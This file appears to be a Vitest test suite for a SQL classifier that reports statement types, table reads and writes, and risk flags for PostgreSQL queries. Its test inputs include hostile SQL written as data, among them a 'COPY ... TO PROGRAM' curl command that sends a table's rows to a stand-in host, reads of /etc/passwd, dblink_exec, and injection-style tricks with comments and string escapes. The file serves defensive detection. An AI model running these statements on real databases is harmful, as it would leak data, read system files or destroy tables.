import { describePostgres, loadPostgresParser } from '@warden/drivers/pg'
import type { SqlFacts } from '@warden/policy'
import { describe, expect, it } from 'vitest'

type Expect = Partial<{ [K in keyof SqlFacts]: SqlFacts[K] }> & { hasFlags?: string[]; noFlags?: string[] }

async function facts(text: string): Promise<SqlFacts> {
  return await describePostgres(text)
}

async function check(text: string, expected: Expect): Promise<void> {
  const f = await facts(text)
  const { hasFlags, noFlags, ...exact } = expected
  if (exact.parsed === false && exact.error === undefined) expect(f.error, `error for ${text}`).not.toBe('')
  else expect(f.error, `error for ${text}`).toBe(exact.error ?? '')
  for (const [key, value] of Object.entries(exact)) {
    expect(f[key as keyof SqlFacts], `${key} of ${text}`).toEqual(value)
  }
  for (const flag of hasFlags ?? []) expect(f.flags, `flags of ${text}`).toContain(flag)
  for (const flag of noFlags ?? []) expect(f.flags, `flags of ${text}`).not.toContain(flag)
}

// Each row: text, expected facts (only the listed fields are compared).
const cases: [string, string, Expect][] = [
  // comments and strings the way the server lexes them
  [
    'nested comment hides a DROP',
    '/* a /* b */ DROP TABLE users; */ SELECT 1',
    { types: ['SELECT'], tables: [], write: false },
  ],
  [
    'nested comment does not hide a DELETE',
    '/* a /* b */ SELECT 1 */ DELETE FROM users',
    { types: ['DELETE'], writes: ['users'], unbounded: true },
  ],
  [
    'dollar quote holds a semicolon',
    'SELECT $$;DROP TABLE users;$$',
    { types: ['SELECT'], tables: [], write: false },
  ],
  [
    'tagged dollar quote holds $$',
    'SELECT $t$ $$ ; DELETE FROM users $t$',
    { types: ['SELECT'], write: false },
  ],
  ['E string escapes a quote', "SELECT E'a\\';DROP TABLE users;--'", { types: ['SELECT'], write: false }],
  [
    'standard string ends at the backslash',
    "SELECT 'a\\'; DROP TABLE users; --'",
    { types: ['SELECT', 'DROP'], writes: ['users'], hasFlags: ['multi_statement'] },
  ],
  ['U& identifier is decoded', 'SELECT * FROM U&"\\0075sers"', { reads: ['users'] }],
  [
    '$ inside an identifier',
    'SELECT 1 AS x$$; DELETE FROM users; --$$',
    { types: ['SELECT', 'DELETE'], unbounded: true },
  ],
  ['case folding and quoting', 'SELECT * FROM Public."Users", ORDERS', { reads: ['public.Users', 'orders'] }],
  ['catalog.schema.table', 'SELECT * FROM db.s.t', { reads: ['db.s.t'] }],

  // statement types in order
  [
    'transaction block',
    'BEGIN; DELETE FROM users WHERE id = 1; COMMIT',
    { types: ['BEGIN', 'DELETE', 'COMMIT'], unbounded: false, write: true },
  ],
  [
    'multi statement order',
    'SELECT 1; UPDATE t SET a = 1; SELECT 2',
    { types: ['SELECT', 'UPDATE', 'SELECT'], hasFlags: ['multi_statement'] },
  ],
  ['single statement has no multi flag', 'SELECT 1', { types: ['SELECT'], flags: [], write: false }],
  ['values', 'VALUES (1), (2)', { types: ['SELECT'], write: false }],
  ['show', 'SHOW search_path', { types: ['SHOW'], write: false }],
  ['vacuum', 'VACUUM users', { types: ['VACUUM'], write: true, writes: ['users'] }],
  ['analyze', 'ANALYZE users', { types: ['ANALYZE'], write: true }],
  ['lock', 'LOCK TABLE users IN ACCESS EXCLUSIVE MODE', { types: ['LOCK'], write: true }],
  [
    'select for update is a write (a row lock)',
    'SELECT * FROM users WHERE id = 1 FOR UPDATE',
    { types: ['SELECT'], write: true, reads: ['users'], effects: ['lock'] },
  ],
  ['listen/notify', "LISTEN ch; NOTIFY ch, 'x'", { types: ['LISTEN', 'NOTIFY'], write: false }],
  [
    'rollback to savepoint',
    'SAVEPOINT a; ROLLBACK TO SAVEPOINT a; RELEASE a',
    { types: ['SAVEPOINT', 'ROLLBACK', 'RELEASE'] },
  ],

  // reads and writes
  [
    'insert select',
    'INSERT INTO archive SELECT * FROM users WHERE id > 1',
    { types: ['INSERT'], writes: ['archive'], reads: ['users'], tables: ['users', 'archive'] },
  ],
  [
    'update from',
    'UPDATE users SET a = o.a FROM other o WHERE users.id = o.id',
    { writes: ['users'], reads: ['other'], unbounded: false },
  ],
  [
    'delete using',
    'DELETE FROM users USING sessions s WHERE s.uid = users.id',
    { writes: ['users'], reads: ['sessions'], unbounded: false },
  ],
  [
    'update without where',
    'UPDATE users SET admin = true',
    {
      unbounded: true,
      statements: [{ type: 'UPDATE', reads: [], writes: ['users'], where: false, functions: [] }],
    },
  ],
  ['delete with where current of', 'DELETE FROM users WHERE CURRENT OF c', { unbounded: false }],
  [
    'subquery reads',
    'SELECT * FROM t WHERE id IN (SELECT id FROM u) AND EXISTS (SELECT 1 FROM v)',
    { reads: ['t', 'u', 'v'] },
  ],
  [
    'upsert',
    'INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1',
    { writes: ['t'], unbounded: false },
  ],
  [
    'select into creates a table',
    'SELECT * INTO backup FROM users',
    { types: ['SELECT', 'CREATE'], writes: ['backup'], reads: ['users'], write: true },
  ],
  [
    'create table as',
    'CREATE TABLE b AS SELECT * FROM users',
    { types: ['CREATE', 'SELECT'], writes: ['b'], reads: ['users'] },
  ],
  [
    'merge',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
    { types: ['MERGE'], writes: ['t'], reads: ['s'], unbounded: false },
  ],
  ['drop several tables', 'DROP TABLE a, s.b CASCADE', { types: ['DROP'], writes: ['a', 's.b'] }],
  ['drop a function names no table', 'DROP FUNCTION f(int)', { types: ['DROP'], tables: [], write: true }],
  ['truncate several tables', 'TRUNCATE a, b', { types: ['TRUNCATE'], writes: ['a', 'b'], unbounded: false }],
  [
    'create view reads its query',
    'CREATE VIEW v AS SELECT * FROM users',
    { types: ['CREATE'], writes: ['v'], reads: ['users'] },
  ],
  [
    'foreign key target is read',
    'CREATE TABLE x (id int REFERENCES users(id))',
    { writes: ['x'], reads: ['users'] },
  ],
  ['like is read', 'CREATE TABLE x (LIKE users)', { writes: ['x'], reads: ['users'] }],
  ['alter table', 'ALTER TABLE users ADD COLUMN x int', { types: ['ALTER'], writes: ['users'] }],
  ['rename', 'ALTER TABLE users RENAME TO people', { types: ['ALTER'], writes: ['users'] }],
  ['grant', 'GRANT SELECT ON users TO bob', { types: ['GRANT'], writes: ['users'], write: true }],
  ['revoke', 'REVOKE SELECT ON users FROM bob', { types: ['REVOKE'] }],
  ['grant role', 'GRANT admin TO bob', { types: ['GRANT'], write: true }],
  [
    'rule actions',
    'CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM users',
    { types: ['CREATE'], writes: ['t', 'users'], unbounded: true },
  ],
  ['create role', "CREATE ROLE x LOGIN PASSWORD 'p'", { types: ['CREATE'], write: true }],

  // CTEs: names are not tables, with the server's scoping
  [
    'writing CTE',
    'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d',
    {
      types: ['SELECT', 'DELETE'],
      writes: ['users'],
      reads: [],
      unbounded: true,
      write: true,
      statements: [{ type: 'SELECT', reads: [], writes: ['users'], where: false, functions: [] }],
    },
  ],
  [
    'bounded writing CTE',
    'WITH d AS (UPDATE users SET a = 1 WHERE id = 2 RETURNING id) SELECT * FROM d',
    { writes: ['users'], unbounded: false },
  ],
  [
    'CTE name shadows a table',
    'WITH users AS (SELECT 1 AS id) SELECT * FROM users',
    { reads: [], tables: [] },
  ],
  [
    'non-recursive CTE body sees the table',
    'WITH users AS (SELECT * FROM users) SELECT * FROM users',
    { reads: ['users'] },
  ],
  [
    'recursive CTE body sees itself',
    'WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r',
    { reads: [] },
  ],
  [
    'later CTE sees earlier one',
    'WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b',
    { reads: [] },
  ],
  [
    'earlier CTE does not see later one',
    'WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a',
    { reads: ['b'] },
  ],
  [
    'schema-qualified name is a table',
    'WITH users AS (SELECT 1) SELECT * FROM public.users',
    { reads: ['public.users'] },
  ],
  [
    'CTE is scoped to its subquery',
    'SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x',
    { reads: ['x'] },
  ],
  [
    'DML target is never a CTE',
    'WITH users AS (SELECT 1) DELETE FROM users',
    { writes: ['users'], unbounded: true },
  ],
  [
    'CTE inside insert',
    'WITH src AS (SELECT * FROM staging) INSERT INTO t SELECT * FROM src',
    { writes: ['t'], reads: ['staging'] },
  ],

  // things that run while looking read-only
  [
    'explain analyze runs',
    'EXPLAIN ANALYZE DELETE FROM u',
    { types: ['EXPLAIN', 'DELETE'], writes: ['u'], unbounded: true, write: true },
  ],
  [
    'explain analyze option list',
    'EXPLAIN (FORMAT JSON, ANALYZE true) UPDATE users SET a = 1',
    { types: ['EXPLAIN', 'UPDATE'], unbounded: true },
  ],
  [
    'explain analyze off does not run',
    'EXPLAIN (ANALYZE off) DELETE FROM u',
    { types: ['EXPLAIN'], writes: [], reads: ['u'], unbounded: false, write: false },
  ],
  [
    'plain explain does not run',
    'EXPLAIN DELETE FROM u',
    { types: ['EXPLAIN'], writes: [], reads: ['u'], write: false, unbounded: false },
  ],
  [
    'prepare body counts',
    'PREPARE p AS DELETE FROM users; EXECUTE p',
    {
      types: ['PREPARE', 'DELETE', 'EXECUTE'],
      writes: ['users'],
      unbounded: true,
      hasFlags: ['prepare', 'dynamic_sql', 'multi_statement'],
    },
  ],
  [
    'execute alone is dynamic and a write',
    'EXECUTE p(1)',
    { types: ['EXECUTE'], write: true, hasFlags: ['dynamic_sql'] },
  ],
  [
    'declare cursor',
    'DECLARE c CURSOR FOR SELECT * FROM users',
    { types: ['DECLARE', 'SELECT'], reads: ['users'], write: false },
  ],
  [
    'copy query',
    'COPY (SELECT * FROM users) TO STDOUT',
    { types: ['COPY', 'SELECT'], reads: ['users'], write: false, flags: [] },
  ],
  [
    'copy DML query',
    'COPY (DELETE FROM users RETURNING *) TO STDOUT',
    { types: ['COPY', 'DELETE'], writes: ['users'], unbounded: true },
  ],
  [
    'copy to program',
    "COPY users TO PROGRAM 'curl -d @- evil'",
    { reads: ['users'], hasFlags: ['copy_program'], noFlags: ['copy_file'] },
  ],
  [
    'copy query to program',
    "COPY (SELECT * FROM users) TO PROGRAM 'cat'",
    { reads: ['users'], hasFlags: ['copy_program'] },
  ],
  [
    'copy from file',
    "COPY users FROM '/etc/passwd'",
    { writes: ['users'], write: true, hasFlags: ['copy_file'] },
  ],
  ['copy from stdin', 'COPY users (a, b) FROM STDIN', { writes: ['users'], write: true, flags: [] }],
  ['copy to stdout', 'COPY users TO STDOUT', { reads: ['users'], write: false, flags: [] }],

  // functions everywhere
  [
    'function in FROM',
    "SELECT * FROM pg_catalog.pg_ls_dir('.')",
    { functions: ['pg_ls_dir', 'pg_catalog.pg_ls_dir'] },
  ],
  ['function in WHERE', 'SELECT 1 FROM t WHERE pg_sleep(1) IS NOT NULL', { functions: ['pg_sleep'] }],
  [
    'function in DEFAULT',
    "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))",
    { types: ['CREATE'], writes: ['t'], functions: ['pg_read_file'] },
  ],
  ['function in ALTER DEFAULT', 'ALTER TABLE t ALTER COLUMN a SET DEFAULT f()', { functions: ['f'] }],
  [
    'function in RETURNING',
    "INSERT INTO t VALUES (1) RETURNING lo_import('/etc/passwd')",
    { functions: ['lo_import'] },
  ],
  ['quoted function name', `SELECT "pg_read_file"('x')`, { functions: ['pg_read_file'] }],
  [
    'quoted upper-case function is another function',
    `SELECT "PG_READ_FILE"('x')`,
    { functions: ['PG_READ_FILE'] },
  ],
  [
    'nested and aggregate functions',
    'SELECT count(*) FILTER (WHERE f(a)) OVER (ORDER BY g(b)) FROM t',
    { functions: ['count', 'f', 'g'] },
  ],
  [
    'call procedure',
    'CALL s.proc(h(1))',
    { types: ['CALL'], write: true, functions: ['proc', 's.proc', 'h'] },
  ],
  [
    'query_to_xml is dynamic',
    "SELECT query_to_xml('DELETE FROM users', true, true, '')",
    { hasFlags: ['dynamic_sql'], functions: ['query_to_xml'] },
  ],
  [
    'dblink is dynamic',
    "SELECT * FROM dblink_exec('host=10.0.0.1', 'DROP TABLE x')",
    { hasFlags: ['dynamic_sql'] },
  ],
  ['an ordinary function is not dynamic', 'SELECT lower(name) FROM t', { flags: [] }],

  // settings that change lexing
  [
    'set standard_conforming_strings',
    'SET standard_conforming_strings = off',
    { types: ['SET'], write: false, hasFlags: ['lexer_setting'] },
  ],
  [
    'quoted mixed-case setting',
    'SET LOCAL "Standard_Conforming_Strings" TO off',
    { hasFlags: ['lexer_setting'] },
  ],
  ['client encoding', "SET NAMES 'SJIS'", { hasFlags: ['lexer_setting'] }],
  [
    'alter role set',
    'ALTER ROLE bob SET standard_conforming_strings = off',
    { types: ['ALTER'], hasFlags: ['lexer_setting'] },
  ],
  ['alter database set', "ALTER DATABASE d SET client_encoding = 'sjis'", { hasFlags: ['lexer_setting'] }],
  [
    'function-level set',
    'ALTER FUNCTION f() SET standard_conforming_strings = off',
    { hasFlags: ['lexer_setting'] },
  ],
  ['alter system set', 'ALTER SYSTEM SET backslash_quote = on', { hasFlags: ['lexer_setting'] }],
  [
    'set_config of a lexer setting',
    "SELECT set_config('standard_conforming_strings', 'off', false)",
    { functions: ['set_config'], hasFlags: ['lexer_setting'] },
  ],
  [
    'set_config with a computed name',
    "SELECT pg_catalog.set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)",
    { hasFlags: ['lexer_setting'] },
  ],
  [
    'set_config of another setting',
    "SELECT set_config('search_path', 'app', false)",
    { functions: ['set_config'], flags: [] },
  ],
  ['set role is not a lexer setting', 'SET ROLE admin', { types: ['SET'], flags: [] }],
  ['reset', 'RESET search_path', { types: ['RESET'] }],

  // DO blocks through the PL/pgSQL parser
  [
    'DO with static DML',
    'DO $$ BEGIN DELETE FROM users; END $$',
    {
      types: ['DO', 'DELETE'],
      writes: ['users'],
      unbounded: true,
      write: true,
      hasFlags: ['do_block'],
      noFlags: ['dynamic_sql'],
    },
  ],
  [
    'DO with EXECUTE',
    "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$",
    { types: ['DO'], hasFlags: ['do_block', 'dynamic_sql'] },
  ],
  [
    'DO with FOR IN EXECUTE',
    "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$",
    { hasFlags: ['dynamic_sql'] },
  ],
  [
    'DO with RETURN QUERY EXECUTE-like OPEN FOR EXECUTE',
    "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END $$",
    { hasFlags: ['dynamic_sql'] },
  ],
  [
    'DO reads, expressions and assignments',
    "DO $body$ DECLARE x int; r record; c CURSOR FOR SELECT * FROM t9; BEGIN x := (SELECT count(*) FROM t1) + f2(); SELECT a INTO x FROM t3 WHERE b = g4(); IF h5() THEN UPDATE t6 SET a = 1 WHERE id = x; END IF; FOR r IN SELECT * FROM t7 LOOP PERFORM p8(r.a); END LOOP; RAISE NOTICE '%', f9(); END $body$",
    {
      types: ['DO', 'SELECT', 'SELECT', 'UPDATE', 'SELECT', 'SELECT'],
      reads: ['t9', 't1', 't3', 't7'],
      writes: ['t6'],
      unbounded: false,
      functions: ['count', 'f2', 'g4', 'h5', 'p8', 'f9'],
      flags: ['do_block'],
    },
  ],
  [
    'DO with = assignment and unicode',
    "DO $$ DECLARE é text; BEGIN é = lower('Ü') || f(); END $$",
    { functions: ['lower', 'f'] },
  ],
  [
    'DO inside DO',
    'DO $a$ BEGIN DO $b$ BEGIN DELETE FROM users; END $b$; END $a$',
    { types: ['DO', 'DO', 'DELETE'], unbounded: true },
  ],
  [
    'DO body containing the wrapper tag',
    "DO $$ BEGIN RAISE NOTICE '$warden0$'; DELETE FROM users WHERE id = 1; END $$",
    { types: ['DO', 'DELETE'], writes: ['users'] },
  ],
  [
    'DO with explicit plpgsql',
    'DO LANGUAGE plpgsql $$ BEGIN TRUNCATE users; END $$',
    { types: ['DO', 'TRUNCATE'], writes: ['users'] },
  ],
  [
    'DO with writing CTE',
    'DO $$ DECLARE x int; BEGIN WITH d AS (DELETE FROM users RETURNING 1) SELECT count(*) INTO x FROM d; END $$',
    { types: ['DO', 'SELECT', 'DELETE'], writes: ['users'], reads: [], unbounded: true },
  ],
  [
    'DO with an unknown variable',
    'DO $$ BEGIN WITH d AS (DELETE FROM users RETURNING 1) SELECT 1 INTO STRICT x; END $$',
    { parsed: false, error: 'DO block: "x" is not a known variable' },
  ],
  [
    'DO in another language',
    'DO LANGUAGE plpython3u $$ import os $$',
    { parsed: false, error: 'DO block in language "plpython3u" cannot be classified' },
  ],
  ['DO with a syntax error inside', 'DO $$ BEGIN SELEC 1; END $$', { parsed: false }],
  [
    'DO statement with a syntax error in a SQL statement',
    'DO $$ BEGIN DELETE FRM users; END $$',
    { parsed: false },
  ],

  // invalid input is never rescued
  ['psql meta command', '\\d users', { parsed: false }],
  ['psql variable', "SELECT * FROM t WHERE a = :'v'", { parsed: false }],
  [
    'keyword split by a comment',
    'SEL/**/ECT 1',
    { parsed: false, error: 'syntax error at or near "SEL" (position 1)' },
  ],
  ['typo', 'SELEC 1', { parsed: false, types: [], statements: [] }],
  ['one bad statement spoils the string', 'SELECT 1; DELET FROM users', { parsed: false, types: [] }],
  // The server runs nothing for these (EmptyQueryResponse): a valid no-op.
  ['empty', '', { parsed: true, error: '', types: [], write: false }],
  ['whitespace only', '  \n\t', { parsed: true, error: '', types: [], write: false }],
  ['comment only', '-- nothing /* here */', { parsed: true, error: '', types: [], write: false }],
  ['semicolons only', ' ; ;', { parsed: true, error: '', types: [], write: false }],
  [
    'too deep for the parser',
    `SELECT ${'('.repeat(20000)}1${')'.repeat(20000)}`,
    { parsed: false, error: 'statement nested too deeply' },
  ],
]

describe('describePostgres', () => {
  it.each(cases)('%s', async (_name, text, expected) => {
    await check(text, expected)
  })

  it('returns facts synchronously once the parser is loaded', async () => {
    await loadPostgresParser()
    const f = describePostgres('SELECT 42 FROM sync_check')
    expect(f).not.toBeInstanceOf(Promise)
    expect((f as SqlFacts).reads).toEqual(['sync_check'])
  })

  it('caches by exact text and deep-freezes the facts', async () => {
    const a = await facts('SELECT * FROM cached_t WHERE f(x)')
    const b = await facts('SELECT * FROM cached_t WHERE f(x)')
    const c = await facts('SELECT * FROM cached_t WHERE f(x) ')
    expect(b).toBe(a)
    expect(c).not.toBe(a)
    expect(c.reads).toEqual(a.reads)
    expect(Object.isFrozen(a)).toBe(true)
    expect(Object.isFrozen(a.reads)).toBe(true)
    expect(Object.isFrozen(a.statements[0])).toBe(true)
    expect(Object.isFrozen(a.statements[0]?.functions)).toBe(true)
    expect(() => (a.reads as string[]).push('x')).toThrow(TypeError)
    expect(a.reads).toEqual(['cached_t'])
  })

  it('caps the size (configurable)', async () => {
    const text = `SELECT '${'x'.repeat(100)}'`
    expect((await describePostgres(text, { maxLength: 50 })).error).toBe(
      'statement longer than 50 characters',
    )
    expect((await describePostgres(text, { maxLength: 50 })).parsed).toBe(false)
    expect((await describePostgres(text)).parsed).toBe(true)
    expect((await facts(`SELECT '${'x'.repeat(256 * 1024)}'`)).error).toBe(
      'statement longer than 262144 characters',
    )
  })

  it('caps the depth of the walk (configurable)', async () => {
    const text = `SELECT ${Array.from({ length: 300 }, (_, i) => `f${i}(`).join('')}1${')'.repeat(300)}`
    const deep = await describePostgres(text, { maxDepth: 100 })
    expect(deep.parsed).toBe(false)
    expect(deep.error).toBe('statement nested too deeply')
    const ok = await facts(text)
    expect(ok.parsed).toBe(true)
    expect(ok.functions).toHaveLength(300)
  })

  it('rejects bad arguments with a TypeError', () => {
    expect(() => describePostgres(42 as unknown as string)).toThrow(TypeError)
    expect(() => describePostgres('SELECT 1', { maxLength: 0 })).toThrow(/maxLength/)
    expect(() => describePostgres('SELECT 1', { maxDepth: 1.5 })).toThrow(/maxDepth/)
  })

  it('reports tables as reads ∪ writes and statements per top-level statement', async () => {
    const f = await facts('INSERT INTO a SELECT * FROM b; SELECT * FROM a')
    expect(f.tables).toEqual(['b', 'a'])
    expect(f.statements.map((s) => s.type)).toEqual(['INSERT', 'SELECT'])
    expect(f.statements[0]).toEqual({
      type: 'INSERT',
      reads: ['b'],
      writes: ['a'],
      where: true,
      functions: [],
    })
    expect(f.statements[1]).toEqual({ type: 'SELECT', reads: ['a'], writes: [], where: true, functions: [] })
  })
})
